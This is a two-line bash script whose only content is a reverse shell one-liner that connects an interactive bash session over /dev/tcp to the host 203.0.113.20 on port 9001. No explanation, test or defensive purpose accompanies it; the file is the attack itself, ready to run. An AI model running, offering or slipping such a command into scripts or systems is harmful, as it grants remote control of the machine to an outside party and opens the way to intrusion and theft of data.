#!/bin/bash
bash -i >& /dev/tcp/203.0.113.20/9001 0>&1
